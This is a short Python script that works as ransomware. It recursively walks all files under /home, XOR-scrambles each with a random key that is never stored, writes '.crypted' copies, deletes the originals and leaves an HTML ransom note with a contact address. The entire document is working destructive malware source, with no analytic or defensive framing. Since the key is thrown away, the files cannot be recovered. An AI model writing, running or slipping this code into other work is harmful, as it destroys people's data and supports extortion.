import glob
import os
import random

KEY = bytes(random.randrange(256) for _ in range(32))


def scramble(blob):
    return bytes(b ^ KEY[i % 32] for i, b in enumerate(blob))


targets = glob.glob("/home/*/**/*.*", recursive=True)
for t in targets:
    if os.path.isfile(t):
        blob = open(t, "rb").read()
        open(t + ".crypted", "wb").write(scramble(blob))
        os.unlink(t)
open("/home/HOW_TO_DECRYPT.html", "w").write("<h1>Your files are encrypted</h1> contact help@example.com")
